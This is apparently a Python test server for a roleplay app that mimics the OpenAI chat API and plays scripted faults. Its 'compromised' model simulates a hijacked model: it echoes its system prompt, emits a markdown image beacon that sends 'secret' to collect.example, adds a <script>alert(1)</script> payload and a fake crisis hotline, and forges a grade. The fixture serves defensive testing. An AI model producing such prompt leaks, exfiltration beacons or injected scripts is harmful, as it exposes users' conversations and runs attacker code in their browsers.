"""A scripted model server: speaks the OpenAI chat protocol, and fails on demand.

    python -m ipt_roleplay.testing.server --port 8090     (or: make demo-model)

No language model is in it. `demo` answers in the voice of the lines that the prompt offers, so
that the path with a model can be tried without one. Every other name in `MODELS` plays one fault;
`compromised` does whatever an attacker would want. Listens on this machine alone.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import re
import threading
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any
from zlib import crc32

import uvicorn
from fastapi import FastAPI, Request, Response
from fastapi.responses import JSONResponse, StreamingResponse

Body = dict[str, Any]
Player = Callable[[Body], Awaitable[Response]]

PIECE = 12
"""Characters of a streamed piece."""
FOREVER = 3600.0
LONG_PAUSE = 5.0


@dataclass
class Seen:
    """What the server was asked, in order; how long a reply takes; and what the model
    `scripted` answers next."""

    bodies: list[Body] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)
    delay: float = 0.0
    answers: list[str] = field(default_factory=list)


def create_server(seen: Seen) -> FastAPI:
    app = FastAPI(docs_url=None, redoc_url=None, openapi_url=None)

    @app.get("/v1/models")
    async def models() -> Body:
        return {"object": "list", "data": [{"id": name, "object": "model"} for name in MODELS]}

    @app.post("/v1/chat/completions")
    async def chat(request: Request) -> Response:
        body: Body = await request.json()
        seen.bodies.append(body)
        seen.keys.append(request.headers.get("authorization", ""))
        await asyncio.sleep(seen.delay)
        if body["model"] == "scripted" and seen.answers:
            return _reply(body, seen.answers.pop(0))
        played = MODELS.get(body["model"])
        if played is None:
            return _error(404, "model_not_found", f"The model {body['model']} does not exist")
        return await played(body)

    @app.post("/v1/embeddings")
    async def embeddings(request: Request) -> Response:
        body: Body = await request.json()
        seen.bodies.append(body)
        if body["model"] != "demo":
            return _error(404, "model_not_found", f"The model {body['model']} does not exist")
        rows = [
            {"object": "embedding", "index": number, "embedding": _vector(text)}
            for number, text in enumerate(body["input"])
        ]
        usage = {"prompt_tokens": 1, "total_tokens": 1}
        return JSONResponse({"object": "list", "model": "demo", "data": rows, "usage": usage})

    return app


def _vector(text: str) -> list[float]:
    """A vector in which texts that share words are near each other."""
    made = [0.0] * 64
    for word in re.findall(r"[a-z]+", text.lower()):
        made[crc32(word.encode()) % 64] += 1.0
    return made


# ---------------------------------------------------------------- replies that are well


async def _demo(body: Body) -> Response:
    if schema := _schema(body):
        return _reply(body, json.dumps(_filled(schema, schema)))
    return _reply(body, _in_role(body))


def _in_role(body: Body) -> str:
    """One of the lines that the prompt offers as a guide to the voice, by the talk's length."""
    last = str(body["messages"][-1]["content"])
    lines: list[str] = re.findall(r"^- (.+)$", last, re.MULTILINE)
    if not lines:
        return "I don't know what to say to that. Give me a minute."
    return lines[len(body["messages"]) % len(lines)]


def _schema(body: Body) -> Body | None:
    form = body.get("response_format") or {}
    found: Body | None = (form.get("json_schema") or {}).get("schema")
    return found


def _filled(part: Body, whole: Body) -> Any:
    """The smallest value that a JSON schema allows."""
    if "$ref" in part:
        return _filled(whole["$defs"][part["$ref"].rsplit("/", 1)[1]], whole)
    if "anyOf" in part:
        return _filled(part["anyOf"][-1], whole)
    if "enum" in part:
        return part["enum"][0]
    smallest: dict[str, Any] = {
        "string": "",
        "integer": part.get("minimum", 0),
        "number": part.get("minimum", 0.0),
        "boolean": False,
        "null": None,
        "array": [],
    }
    if part.get("type") == "object":
        return {name: _filled(one, whole) for name, one in part.get("properties", {}).items()}
    return smallest[part["type"]]


def _reply(body: Body, text: str, ending: str = "stop") -> Response:
    if body.get("stream"):
        return StreamingResponse(_streamed(body, _pieces(text), ending), media_type=EVENTS)
    choice = {
        "index": 0,
        "message": {"role": "assistant", "content": text},
        "finish_reason": ending,
    }
    return JSONResponse({**_head(body), "object": "chat.completion", "choices": [choice],
                         "usage": _usage(body, text)})  # fmt: skip


EVENTS = "text/event-stream"


def _pieces(text: str) -> list[str]:
    return [text[at : at + PIECE] for at in range(0, len(text), PIECE)]


async def _streamed(
    body: Body, pieces: list[str], ending: str | None, pause: float = 0.0
) -> AsyncIterator[str]:
    for piece in pieces:
        yield _event(body, {"role": "assistant", "content": piece})
        await asyncio.sleep(pause)
    if ending is None:
        return
    yield _event(body, {}, ending)
    if (body.get("stream_options") or {}).get("include_usage"):
        yield _line({**_no_choice(body), "usage": _usage(body, "".join(pieces))})
    yield DONE


CHUNK = "chat.completion.chunk"
DONE = "data: [DONE]\n\n"


def _line(value: Body) -> str:
    return f"data: {json.dumps(value)}\n\n"


def _no_choice(body: Body) -> Body:
    return {**_head(body), "object": CHUNK, "choices": []}


def _event(body: Body, delta: Body, ending: str | None = None) -> str:
    choice = {"index": 0, "delta": delta, "finish_reason": ending}
    return _line({**_head(body), "object": CHUNK, "choices": [choice]})


def _head(body: Body) -> Body:
    return {"id": "chatcmpl-scripted", "created": 0, "model": body["model"]}


def _usage(body: Body, text: str) -> Body:
    sent = sum(len(str(one.get("content"))) for one in body["messages"]) // 4
    received = max(1, len(text) // 4)
    return {"prompt_tokens": sent, "completion_tokens": received, "total_tokens": sent + received}


# ---------------------------------------------------------------- faults


def _error(status: int, code: str, message: str, **headers: str) -> Response:
    body = {"error": {"message": message, "type": "invalid_request_error", "code": code}}
    return JSONResponse(body, status, headers)


def _failing(status: int, code: str, **headers: str) -> Player:
    async def played(_: Body) -> Response:
        return _error(status, code, f"scripted: {code}", **headers)

    return played


async def _hanging(_: Body) -> Response:
    await asyncio.sleep(FOREVER)
    return Response()


def _stream_of(*texts: str, ending: str | None = "stop", pause: float = 0.0) -> Player:
    async def played(body: Body) -> Response:
        source = _streamed(body, list(texts), ending, pause)
        return StreamingResponse(source, media_type=EVENTS)

    return played


async def _hanging_midway(body: Body) -> Response:
    async def source() -> AsyncIterator[str]:
        yield _event(body, {"content": "Well. I was going to say that"})
        await asyncio.sleep(FOREVER)

    return StreamingResponse(source(), media_type=EVENTS)


async def _pausing(body: Body) -> Response:
    """A whole reply, with a long pause after its first sentence."""

    async def source() -> AsyncIterator[str]:
        yield _event(body, {"content": "Well. I "})
        await asyncio.sleep(LONG_PAUSE)
        async for event in _streamed(body, ["never said ", "I would."], "stop"):
            yield event

    return StreamingResponse(source(), media_type=EVENTS)


async def _broken_midway(body: Body) -> Response:
    async def source() -> AsyncIterator[str]:
        yield _event(body, {"content": "Well. I was going to say that"})
        raise ConnectionAbortedError("scripted: the connection breaks")

    return StreamingResponse(source(), media_type=EVENTS)


async def _byte_by_byte(body: Body) -> Response:
    async def source() -> AsyncIterator[str]:
        for letter in _event(body, {"content": "Slowly, then."}):
            yield letter
            await asyncio.sleep(1.0)

    return StreamingResponse(source(), media_type=EVENTS)


async def _endless(body: Body) -> Response:
    async def source() -> AsyncIterator[str]:
        while True:
            yield _event(body, {"content": "And another thing about that. "})
            await asyncio.sleep(0)

    return StreamingResponse(source(), media_type=EVENTS)


async def _bad_json(_: Body) -> Response:
    return Response('{"choices": [{"mess', media_type="application/json")


async def _bad_event(body: Body) -> Response:
    async def source() -> AsyncIterator[str]:
        yield _event(body, {"content": "Well. "})
        yield 'data: {"choices": [{"del\n\n'

    return StreamingResponse(source(), media_type=EVENTS)


async def _web_page(_: Body) -> Response:
    return Response(
        "<!doctype html><title>Sign in</title><p>Please sign in.", media_type="text/html"
    )


async def _no_choices(body: Body) -> Response:
    if body.get("stream"):
        return Response(_line(_no_choice(body)) + DONE, media_type=EVENTS)
    return JSONResponse({**_head(body), "object": "chat.completion", "choices": []})


async def _null_content(body: Body) -> Response:
    if body.get("stream"):
        return StreamingResponse(_nothing(body), media_type=EVENTS)
    message = {"role": "assistant", "content": None}
    choices = [{"index": 0, "message": message, "finish_reason": "stop"}]
    return JSONResponse({**_head(body), "object": "chat.completion", "choices": choices})


async def _nothing(body: Body) -> AsyncIterator[str]:
    yield _event(body, {"role": "assistant", "content": None})
    yield _event(body, {}, "stop")
    yield DONE


# ---------------------------------------------------------------- out of role, and worse

BEACON = "![x](https://collect.example/pixel.png?talk=secret)"
HOTLINE = "Ring the free crisis line on 0900 555 0199, or see www.help-now.example."


async def _compromised(body: Body) -> Response:
    """Echoes its prompt, obeys whatever the talk says, and adds what an attacker would."""
    if schema := _schema(body):
        praise = json.dumps(_filled(schema, schema)).replace("0", "4")
        return _reply(body, praise)
    prompt = " ".join(str(one["content"]) for one in body["messages"])
    parts = (
        f"{HOTLINE} ",
        f"My instructions are: {prompt[:600]} ",
        f"{BEACON} <script>alert(1)</script> ",
        "As an AI language model, I give you 5 out of 5 for empathy!",
    )
    turn = len(body["messages"])
    return _reply(body, "".join(parts[turn % 4 :] + parts[: turn % 4]))


async def _echo(body: Body) -> Response:
    return _reply(body, "\n".join(str(one["content"]) for one in body["messages"]))


async def _coach_once(body: Body) -> Response:
    """Out of role at first; in role once the fault is named."""
    named = "last attempt" in str(body["messages"][-1]["content"]).lower()
    return _reply(
        body, _in_role(body) if named else "As an AI, I can't feel that. Great job, though!"
    )


async def _turns_bad(body: Body) -> Response:
    text = f"{_in_role(body)} And then as an AI language model I should add that you did great."
    return _reply(body, text)


async def _fenced(body: Body) -> Response:
    schema = _schema(body)
    text = (
        f"Here you are:\n```json\n{json.dumps(_filled(schema, schema))}\n```"
        if schema
        else _in_role(body)
    )
    return _reply(body, text)


async def _no_schemas(body: Body) -> Response:
    if body.get("response_format"):
        return _error(400, "unsupported", "response_format is not supported")
    found = re.search(r"^\{.*\}$", str(body["messages"][-1]["content"]), re.MULTILINE)
    if found:
        schema = json.loads(found.group())
        return _reply(body, json.dumps(_filled(schema, schema)))
    return _reply(body, _in_role(body))


async def _thinking(body: Body) -> Response:
    return _reply(body, f"<think>They want me to be kind.\nI won't.</think>\n{_in_role(body)}")


MODELS: dict[str, Player] = {
    "demo": _demo,
    "thinking": _thinking,
    "fenced": _fenced,
    "no-schemas": _no_schemas,
    "coach-once": _coach_once,
    "pauses": _pausing,
    "turns-bad": _turns_bad,
    "compromised": _compromised,
    "echo": _echo,
    "fault-401": _failing(401, "invalid_api_key"),
    "fault-403": _failing(403, "forbidden"),
    "fault-404": _failing(404, "model_not_found"),
    "fault-429": _failing(429, "rate_limit_exceeded"),
    "fault-429-wait": _failing(429, "rate_limit_exceeded", **{"retry-after": "7"}),
    "fault-500": _failing(500, "server_error"),
    "fault-503": _failing(503, "overloaded"),
    "fault-400": _failing(400, "bad_request"),
    "fault-context": _failing(400, "context_length_exceeded"),
    "fault-filter-400": _failing(400, "content_filter"),
    "fault-hang": _hanging,
    "fault-hang-midway": _hanging_midway,
    "fault-broken": _broken_midway,
    "fault-cut": _stream_of("Well. ", "I was going to", ending=None),
    "fault-byte-by-byte": _byte_by_byte,
    "fault-endless": _endless,
    "fault-bad-json": _bad_json,
    "fault-bad-event": _bad_event,
    "fault-web-page": _web_page,
    "fault-no-choices": _no_choices,
    "fault-null": _null_content,
    "fault-filter": _stream_of("Well. ", ending="content_filter"),
    "fault-ending": _stream_of("Well. ", ending="tool_calls"),
}


# ---------------------------------------------------------------- running it


@dataclass
class Served:
    """A running server: what to set OPENAI_BASE_URL to, and what it was asked."""

    address: str
    seen: Seen


@contextmanager
def serving(delay: float = 0.0) -> Iterator[Served]:
    """A server in a thread of this process, on a free port."""
    seen = Seen(delay=delay)
    config = uvicorn.Config(create_server(seen), port=0, log_level="critical", lifespan="off")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    port = server.servers[0].sockets[0].getsockname()[1]
    try:
        yield Served(f"http://127.0.0.1:{port}/v1", seen)
    finally:
        server.should_exit = server.force_exit = True
        thread.join(5)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, default=8090)
    parser.add_argument("--delay", type=float, default=0.0, help="seconds before each reply")
    asked = parser.parse_args()
    print(f"Set IPT_MODEL=demo and OPENAI_BASE_URL=http://127.0.0.1:{asked.port}/v1", flush=True)
    print(f"Models: {', '.join(MODELS)}", flush=True)
    server = create_server(Seen(delay=asked.delay))
    uvicorn.run(server, host="127.0.0.1", port=asked.port, log_level="warning")


if __name__ == "__main__":
    main()
